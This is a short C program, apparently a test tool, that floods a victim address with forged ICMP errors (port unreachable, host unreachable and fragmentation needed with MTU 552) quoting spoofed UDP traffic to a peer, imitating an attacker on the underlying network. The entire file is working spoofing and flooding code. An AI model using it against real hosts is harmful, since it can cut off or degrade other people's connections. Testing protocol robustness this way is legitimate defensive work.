/* icmpflood: sends forged ICMP errors at a rate, as an attacker on the underlay does.
 *
 *   icmpflood VICTIM PEER PORT RATE SECONDS
 *
 * The errors quote datagrams from VICTIM to PEER, both at UDP port PORT: port unreachable, host
 * unreachable and fragmentation needed (MTU 552), in turn. Prints how many were sent. IPv4; needs
 * CAP_NET_RAW.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { KINDS = 3, SIZE = 36, TICK_NS = 100000, MOST = 256 };

static uint16_t checksum(const uint8_t *p, size_t n)
{
	uint32_t sum = 0;
	for (size_t i = 0; i < n; i += 2)
		sum += p[i] << 8 | p[i + 1];
	sum = (sum & 0xFFFF) + (sum >> 16);
	return ~((sum & 0xFFFF) + (sum >> 16));
}

static void put16(uint8_t *p, unsigned v)
{
	p[0] = v >> 8;
	p[1] = v;
}

int main(int argc, char **argv)
{
	static const uint8_t codes[KINDS] = {3, 1, 4};
	uint8_t messages[KINDS][SIZE] = {{0}};
	struct sockaddr_in victim = {.sin_family = AF_INET};
	struct in_addr peer;
	static struct mmsghdr batch[MOST];
	struct iovec iov[KINDS];
	struct timespec now, tick = {0, TICK_NS};
	long long sent = 0, start, at;

	if (argc != 6 || !inet_aton(argv[1], &victim.sin_addr) || !inet_aton(argv[2], &peer))
		return fprintf(stderr, "usage: icmpflood VICTIM PEER PORT RATE SECONDS\n"), 2;
	double rate = atof(argv[4]), seconds = atof(argv[5]);
	for (int k = 0; k < KINDS; k++) {
		uint8_t *m = messages[k], *ip = m + 8, *udp = m + 28;
		m[0] = 3;
		m[1] = codes[k];
		put16(m + 6, codes[k] == 4 ? 552 : 0);
		ip[0] = 0x45;
		put16(ip + 2, 1500);
		ip[6] = 0x40;
		ip[8] = 64;
		ip[9] = 17;
		memcpy(ip + 12, &victim.sin_addr, 4);
		memcpy(ip + 16, &peer, 4);
		put16(udp, atoi(argv[3]));
		put16(udp + 2, atoi(argv[3]));
		put16(udp + 4, 1480);
		put16(m + 2, checksum(m, SIZE));
		iov[k] = (struct iovec){m, SIZE};
	}
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (fd < 0)
		return perror("socket"), 1;
	for (int i = 0; i < MOST; i++) {
		batch[i].msg_hdr.msg_name = &victim;
		batch[i].msg_hdr.msg_namelen = sizeof(victim);
		batch[i].msg_hdr.msg_iov = &iov[i % KINDS];
		batch[i].msg_hdr.msg_iovlen = 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &now);
	start = now.tv_sec * 1000000000ll + now.tv_nsec;
	do {
		clock_gettime(CLOCK_MONOTONIC, &now);
		at = now.tv_sec * 1000000000ll + now.tv_nsec - start;
		long long due = (long long)(at * rate / 1e9) - sent;
		if (due > MOST)
			due = MOST;
		int n = due > 0 ? sendmmsg(fd, batch, due, 0) : 0;
		if (n > 0)
			sent += n;
		nanosleep(&tick, NULL);
	} while (at < seconds * 1e9);
	printf("%lld\n", sent);
	return 0;
}
